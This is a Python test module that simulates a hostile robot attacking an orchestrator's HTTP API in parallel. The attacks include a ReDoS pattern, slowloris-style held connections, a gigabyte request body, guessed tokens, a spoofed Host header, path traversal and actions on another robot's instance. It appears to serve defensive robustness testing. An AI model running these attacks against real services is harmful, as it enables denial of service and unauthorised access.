"""One robot that does all at once what a registered robot, and anybody on the network, can do to an orchestrator.

A process of its own, with less right to the processors than what is attacked: an attacker has a computer of its own.
It ends when its pipe is closed, and says then how it was answered.
"""

from __future__ import annotations

import http.client
import json
import os
import signal
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from itertools import count
from multiprocessing.connection import Connection
from typing import Any
from urllib.parse import quote, urlsplit

from .open_loop import Request, ask
from .requests import SERVICE

EVIL = "evil"
"""A service whose manifest has a pattern that takes a backtracking engine for ever."""
EVIL_MANIFEST: dict[str, Any] = {
    "apiVersion": "skytether.io/v1",
    "kind": "Service",
    "metadata": {"name": EVIL},
    "spec": {
        "entrypoint": "skytether.testing.toy_service",
        "params": {"properties": {"name": {"type": "string", "pattern": "^(a+)+$"}}},
    },
}
_LESS = 10
"""How much less right to the processors, as `nice` counts."""
_SOCKETS = 150
"""Held open of each kind."""
_SWEEP_S = 0.5
"""Between looks for those that were closed, to open them again."""
_TIMEOUT_S = 20.0
_API = "/api/v1"
_UNKNOWN = {"Authorization": "Bearer sky-" + "0" * 64}


@dataclass(frozen=True, slots=True)
class Target:
    """What the hostile robot knows.

    Attributes:
        url: The orchestrator's.
        token: Its own.
        robot: Its name.
        instance: Its instance.
        victim: Name of another robot.
        others: That robot's instance.
    """

    url: str
    token: str
    robot: str
    instance: str
    victim: str
    others: str


def attack(pipe: Connection, target: Target) -> None:
    """All at once, until the pipe is closed; then the answers are told, by kind and status (0: none)."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # the harness decides when this ends
    os.nice(_LESS)
    over = threading.Event()
    answers: Counter[tuple[str, int]] = Counter()
    lock = threading.Lock()

    def told(kind: str, status: int) -> None:
        with lock:
            answers[kind, status] += 1

    doing: list[Callable[[], None]] = [partial(_ask_for_ever, target, one, over, told) for one in _asks(target)]
    doing += [partial(_hold, target, kind, first, over, told) for kind, first in _openings(target)]
    doing.append(partial(_pour, target, over, told))
    threads = [threading.Thread(target=one, daemon=True) for one in doing]
    for thread in threads:
        thread.start()
    with suppress(EOFError, OSError):
        pipe.recv()
    over.set()
    for thread in threads:
        thread.join(2 * _TIMEOUT_S)
    with suppress(OSError):
        pipe.send(answers)


def _asks(target: Target) -> list[Iterator[Request]]:
    """What is asked again and again, each time a little differently."""
    own = {"Authorization": f"Bearer {target.token}", "Content-Type": "application/json"}
    instances, renew = f"{_API}/instances", f"{_API}/instances/{target.instance}/renew"

    def post(kind: str, path: str, body: Callable[[int], Any]) -> Iterator[Request]:
        return (Request(kind, "POST", path, own, json.dumps(body(n)).encode()) for n in count())

    def invented(n: int) -> Any:
        return {"measurements": {f"s{n}-{k}": {"rtt_ms": 1} for k in range(3000)}}

    def series(n: int) -> Any:
        topics = [
            {"topic": f"/t{n}-{k}", "direction": "in", "priority": 1, "sent": 10**300, "delay_p99_s": 1e308}
            for k in range(192)
        ]
        return {"report": {"rtt_s": 1e308, "topics": topics}}

    def get(kind: str, path: Callable[[int], str], headers: dict[str, str], method: str = "GET") -> Iterator[Request]:
        return (Request(kind, method, path(n), headers) for n in count())

    return [
        post("names made up", renew, invented),
        post("series made up", renew, series),
        post("instances", instances, lambda _: {"robot": target.robot, "service": SERVICE, "lease_s": 86_400}),
        post("another's name", instances, lambda _: {"robot": target.victim, "service": SERVICE, "lease_s": 60}),
        post(
            "pattern", instances, lambda _: {"robot": target.robot, "service": EVIL, "params": {"name": "a" * 30 + "!"}}
        ),
        post("rotation", f"{_API}/tokens/self/rotate", lambda _: {}),
        post("deep JSON", instances, lambda _: json.loads("[" * 90 + "]" * 90)),
        post("another's key", f"{instances}/{target.others}/session", lambda n: {"claim": f"{n:016}"}),
        get("renewals guessed", lambda _: f"{instances}/{target.others}/renew", _UNKNOWN, "POST"),
        get("another host", lambda _: instances, {**own, "Host": "evil.example"}),
        get("odd names", lambda _: f"{instances}/{quote(f'../robots/{target.victim}', safe='')}", own, "DELETE"),
        get("long paths", lambda n: f"/{n}" + "x" * 6000, {}),
        get("tokens guessed", lambda _: instances, _UNKNOWN),
        get("lists", lambda _: instances, own),
    ]


def _openings(target: Target) -> list[tuple[str, bytes]]:
    """What connections begin to say that then say nothing more."""
    own = f"Authorization: Bearer {target.token}\r\n".encode()
    body = b"POST /api/v1/instances HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n"
    logs = f"GET {_API}/instances/{target.instance}/logs?follow=true&tail=1 HTTP/1.1\r\nHost: localhost\r\n".encode()
    return [
        ("slow body, no token", body + b"\r\n"),
        ("slow body, own token", body + own + b"\r\n"),
        ("half a head", b"POST /api/v1/inst"),
        ("silence", b""),
        ("log streams", logs + own + b"\r\n"),
    ]


def _ask_for_ever(
    target: Target, requests: Iterator[Request], over: threading.Event, told: Callable[[str, int], None]
) -> None:
    address = urlsplit(target.url)
    connection = http.client.HTTPConnection(address.hostname or "", address.port, timeout=_TIMEOUT_S)
    for request in requests:
        if over.is_set():
            break
        status, _ = ask(connection, request)
        told(request.kind, status)
        if not status:  # refused before anything was read: not faster than a computer opens connections
            over.wait(0.01)
    connection.close()


def _hold(target: Target, kind: str, first: bytes, over: threading.Event, told: Callable[[str, int], None]) -> None:
    """Keep as many connections open as one gets, and open those again that were closed."""
    url = urlsplit(target.url)
    held: list[socket.socket] = []
    while not over.wait(_SWEEP_S):
        still = [one for one in held if not _closed(one)]
        for _ in range(len(held) - len(still)):
            told(kind, 0)
        held = still
        while len(held) < _SOCKETS and not over.is_set():
            try:
                one = socket.create_connection((url.hostname or "", url.port or 0), timeout=2.0)
                held.append(one)
                one.sendall(first)
            except OSError:
                told(kind, 0)
                break
    for one in held:
        one.close()


def _closed(one: socket.socket) -> bool:
    """Whether the other end has closed it; what it says is read and thrown away."""
    one.setblocking(False)
    try:
        while one.recv(65_536):
            pass
    except BlockingIOError:
        return False
    except OSError:
        pass
    one.close()
    return True


def _pour(target: Target, over: threading.Event, told: Callable[[str, int], None]) -> None:
    """A body of a gigabyte, as fast as it is taken."""
    url = urlsplit(target.url)
    head = f"POST {_API}/instances HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {target.token}\r\n"
    chunk = bytes(65_536)
    while not over.is_set():
        with (
            suppress(OSError),
            socket.create_connection((url.hostname or "", url.port or 0), timeout=_TIMEOUT_S) as one,
        ):
            one.sendall((head + "Content-Length: 1073741824\r\n\r\n").encode())
            while not over.is_set():
                one.sendall(chunk)
        told("a gigabyte", 0)
        time.sleep(0.05)
